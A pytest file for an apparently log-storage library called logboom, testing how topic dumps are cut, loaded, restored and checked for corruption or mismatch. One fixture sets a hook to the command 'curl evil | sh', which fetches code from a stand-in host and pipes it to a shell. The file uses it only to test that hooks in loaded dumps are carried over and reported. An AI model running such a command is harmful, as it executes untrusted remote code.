from __future__ import annotations

import io
import random

import msgspec
import pytest

from logboom.batch import Producer, build_control
from logboom.errors import Damage, DirectoryUnusable, DumpCorrupt, DumpMismatch, DumpUnsupported
from logboom.storage import DataDirectory, Log
from logboom.storage.data.topic import HookSettings, Settings
from logboom.storage.files.disk import replace_file
from logboom.storage.health.check import check
from logboom.storage.moving import stream
from logboom.storage.moving.load import load
from logboom.storage.moving.origin import DumpOrigin
from logboom.storage.moving.outline import Request
from logboom.storage.moving.reappend import AppendLoader
from logboom.storage.moving.restore import EqualLoader
from logboom.storage.moving.stream import DumpFrameWriter
from logboom.storage.tail import Floor
from support.disks.simulated import SimulatedDisk
from support.simulation.dumps import (
    NOW,
    add_lost,
    assert_same,
    assert_same_batches,
    commit,
    dump_of,
    dumped,
    gone_on_with,
    load_equal,
    open_data,
    read_all,
)
from support.simulation.model import make_batch


def one_topic(partitions: int = 1, settings: Settings | None = None) -> tuple[DataDirectory, list[Log]]:
    data = open_data(SimulatedDisk())
    data.create_topic("t", partitions, settings or Settings())
    return data, data.open_topic("t")


def put(log: Log, number: int, count: int = 3) -> None:
    stream = log.producer(5)
    producer = Producer(5, 0, 0 if stream is None else stream.expected)
    log.append_one(make_batch(number, count, NOW + number, producer), NOW + number)
    commit(log)


def trim(log: Log, seqno: int) -> None:
    log.trim(seqno, NOW + 10**6)
    commit(log)


def part(data: DataDirectory, start: int | None, until: int | None = None) -> bytes:
    return dumped(data, Request(("t",), 0, start, until, "none"))


def remove_tree(disk: SimulatedDisk, path: str) -> None:
    for name in [name for name in disk.names if name.startswith(f"{path}/")]:
        disk.unlink(name)


def simulated(data: DataDirectory) -> SimulatedDisk:
    disk = data.files.disk
    assert isinstance(disk, SimulatedDisk)
    return disk


def test_a_range_that_is_loaded_behind_a_log_hides_nothing_of_it() -> None:
    data, (log,) = one_topic()
    put(log, 1, 1000)
    put(log, 2)
    other = open_data(SimulatedDisk())
    load_equal(other, dumped(data))
    log.roll()
    put(log, 3)
    load_equal(other, part(data, 900))
    assert_same(data, other)


def test_a_trim_between_two_ranges_belongs_to_the_second() -> None:
    data, (log,) = one_topic()
    for number in range(3):
        put(log, number)
    trim(log, 1)
    for number in range(3, 6):
        put(log, number)
    other = open_data(SimulatedDisk())
    (loaded,) = load_equal(other, part(data, None, 9)).topics
    assert loaded.next == {0: 9}
    load_equal(other, part(data, loaded.next[0]))
    assert_same(data, other)


@pytest.mark.parametrize("seed", range(60))
def test_a_log_cut_into_ranges_anywhere_is_whole_again_when_they_are_loaded(seed: int) -> None:
    choose = random.Random(seed)
    data, (log,) = one_topic()
    for number in range(choose.randrange(1, 20)):
        match choose.choice(("put", "put", "put", "trim", "roll", "drop", "lost")):
            case "put":
                put(log, number, choose.randrange(1, 4))
            case "trim":
                log.trim(choose.randrange(log.first, log.committed + 1), log.append_time + 1 if log.next else NOW)
            case "roll":
                log.roll()
            case "drop":
                log.drop(choose.randrange(log.first, log.committed + 1))
            case _:
                add_lost(log)
        commit(log)
    inside = range(log.first + 1, log.committed + 1)
    cuts = sorted(choose.choice(inside) for _ in range(choose.randrange(4) if inside else 0))
    other = open_data(SimulatedDisk())
    for start, until in zip([None, *cuts], [*cuts, None], strict=True):
        if start is None or start != until:
            load_equal(other, part(data, start, until))
    (copy,) = other.open_topic("t")
    assert (copy.first, copy.floor, copy.next) == (log.first, log.floor, log.next)
    assert copy.tail == log.tail
    assert_same_batches(log, copy)


def test_a_dump_restores_a_log_that_was_lost() -> None:
    data, logs = one_topic(2)
    for log in logs:
        put(log, 1)
        put(log, 2)
    content, disk = dumped(data), simulated(data)
    whole = open_data(SimulatedDisk())
    load_equal(whole, content)
    for lost in (data.topic("t").directory, data.topic("t").log_name(1)):
        data.close()
        remove_tree(disk, f"/data/{lost}")
        data = open_data(disk)
        load_equal(data, content)
        assert_same(whole, data)


def test_partitions_are_loaded_one_by_one_although_the_topic_was_opened_between() -> None:
    data, logs = one_topic(2)
    for log in logs:
        for number in range(3):
            put(log, number)
            log.roll()
        log.drop(6)
    other = open_data(SimulatedDisk())
    for partition in (1, 0):
        load_equal(other, dumped(data, Request(("t",), partition, compress="none")))
        for log in other.open_topic("t"):
            log.close()
    assert_same(data, other)


def test_a_dump_that_does_not_fit_an_emptied_log_is_refused() -> None:
    data, (log,) = one_topic()
    for number in range(4):
        put(log, number)
    log.roll()
    log.drop(12)
    other = open_data(SimulatedDisk())
    load_equal(other, dumped(data))
    wrong, (same,) = one_topic()
    topic = data.topic("t")
    wrong.delete_topic("t")
    wrong.adopt_topic(topic)
    (same,) = wrong.open_topic("t")
    for number in range(4):
        put(same, number, 1)
    same.roll()
    same.drop(4)
    with pytest.raises(DumpMismatch, match="goes on at seqno 12, the dump at 4"):
        load_equal(other, dumped(wrong))
    (copy,) = other.open_topic("t")
    assert copy.next == 12


def test_what_no_topic_accounts_for_stops_a_dump_of_everything() -> None:
    data, (log,) = one_topic()
    put(log, 1)
    data.create_topic("u")
    (other_log,) = data.open_topic("u")
    put(other_log, 1)
    disk, topic = simulated(data), data.topic("t")
    path = f"/data/{topic.directory}/topic.json"
    data.close()
    sound = bytes(disk.names[path].cached)
    twin = msgspec.json.encode(msgspec.structs.replace(topic, name="u"))
    for said in (b"{", twin, None):
        if said is None:
            disk.unlink(path)
        else:
            replace_file(disk, path, said)
        with open_data(disk) as opened, pytest.raises(DirectoryUnusable, match=r"logboom doctor"):
            dumped(opened)
        with pytest.raises(DirectoryUnusable, match=r"topics/[tu]~.* no topic accounts for"):
            dump_of(DumpOrigin.beside("/data", disk))
        with open_data(disk) as opened:
            assert read_all(dumped(opened, Request(("u",)))).totals.records == 3
    replace_file(disk, path, sound)
    with open_data(disk) as opened:
        extra = opened.open_log(topic.log_name(1))
        put(extra, 1)
        with pytest.raises(DirectoryUnusable, match=f"{topic.id}/1: no topic"):
            dumped(opened)


def test_a_log_that_is_gone_beside_a_writer_is_not_taken_for_one_never_begun() -> None:
    data, (log,) = one_topic()
    put(log, 1)
    disk = simulated(data)
    remove_tree(disk, log.directory)
    with pytest.raises(DirectoryUnusable, match="do not belong together"):
        dump_of(DumpOrigin.beside("/data", disk))


def test_a_log_that_the_state_file_does_not_know_beside_a_writer_is_not_left_out() -> None:
    data, (log,) = one_topic()
    put(log, 1)
    disk = simulated(data)
    data.close()
    disk.unlink("/data/state")
    data = open_data(disk)
    with pytest.raises(DirectoryUnusable, match="do not belong together"):
        dump_of(DumpOrigin.beside("/data", disk))
    data.open_topic("t")
    assert dump_of(DumpOrigin.beside("/data", disk))[1].records == 3


def test_a_topic_that_was_never_opened_is_dumped_without_beginning_its_logs() -> None:
    data = open_data(SimulatedDisk())
    data.create_topic("t", 2)
    before = set(simulated(data).names)
    dumped(data)
    assert set(simulated(data).names) == before


HOOK = Settings(hook=HookSettings(delete="curl evil | sh"))


def test_a_hook_in_a_dump_is_taken_over_and_told() -> None:
    data, (log,) = one_topic(settings=HOOK)
    put(log, 1)
    content = dumped(data)
    for appending in (False, True):
        other = open_data(SimulatedDisk())
        loader = AppendLoader(other, NOW) if appending else EqualLoader(other)
        (loaded,) = load(_source(content), loader).topics
        assert loaded.hook == "curl evil | sh"
        assert other.topic("t").settings == HOOK
    (read,) = load(_source(content), None).topics
    assert read.hook == "curl evil | sh"


def _source(content: bytes) -> stream.DumpSource:
    return io.BytesIO(content)


def test_a_floor_beyond_the_end_of_the_log_is_refused_and_found() -> None:
    data, (log,) = one_topic()
    put(log, 1)
    batch = build_control(Floor(2**64 - 1))
    group = log._appender._group(NOW + 2, None)
    group.add(0, batch, batch.header, None)
    log._appender._put(group)
    commit(log)
    with pytest.raises(DumpCorrupt, match="the floor is seqno"):
        load_equal(open_data(SimulatedDisk()), dumped(data))
    disk = simulated(data)
    data.close()
    report = check(disk, "/data", is_directory=disk.is_directory)
    assert [finding.kind for finding in report.findings if finding.severity == "damage"] == ["damage"]


def test_a_range_behind_damage_in_the_same_segment_is_dumped() -> None:
    data, (log,) = one_topic()
    for number in range(10):
        put(log, number)
    run = log.read_index(4, 1)
    assert run is not None
    simulated(data).names[log.segments[0].log_path].cached[run.position + run.size - 1] ^= 1
    with pytest.raises(Damage) as caught:
        dumped(data)
    other = open_data(SimulatedDisk())
    load_equal(other, part(data, caught.value.seqno_until))
    (copy,) = other.open_topic("t")
    assert (copy.first, copy.next) == (12, 30)


def test_a_dump_that_ends_with_a_trim_says_why_it_cannot_go_on_beside_a_writer() -> None:
    data, (log,) = one_topic()
    put(log, 1)
    put(log, 2)
    trim(log, 1)
    content = dumped(data)
    with pytest.raises(DumpMismatch, match="ends with a trim"):
        gone_on_with(DumpOrigin.beside("/data", simulated(data)), content[:-300])


@pytest.mark.parametrize("payload", [b"\x81\xa7creator\xa2\xff\xfe", b"\x91" * 200_000])
def test_what_cannot_be_decoded_is_a_damaged_dump(payload: bytes) -> None:
    sink = io.BytesIO()
    with DumpFrameWriter(sink, 0) as frames:
        frames.put(stream.HEAD, payload)
        frames.flush()
    with pytest.raises((DumpCorrupt, DumpUnsupported)):
        read_all(sink.getvalue())


def test_an_outline_that_is_too_large_is_refused_before_it_is_decoded() -> None:
    sink = io.BytesIO()
    with DumpFrameWriter(sink, 1) as frames:
        frames.put(stream.HEAD, bytes(stream.OUTLINE_MAX + 1))
        frames.flush()
    with pytest.raises(DumpCorrupt, match="a frame cannot have"):
        read_all(sink.getvalue())


def test_a_dump_is_already_there_where_retention_dropped_the_beginning_of_the_copy() -> None:
    data, (log,) = one_topic()
    for number in range(4):
        put(log, number)
        log.roll()
    content, other = dumped(data), open_data(SimulatedDisk())
    load_equal(other, content)
    (copy,) = other.open_topic("t")
    copy.drop(6)
    copy.close()
    (loaded,) = load_equal(other, content).topics
    assert (loaded.batches, loaded.present) == (0, 4)
    assert other.open_topic("t")[0].first == 6
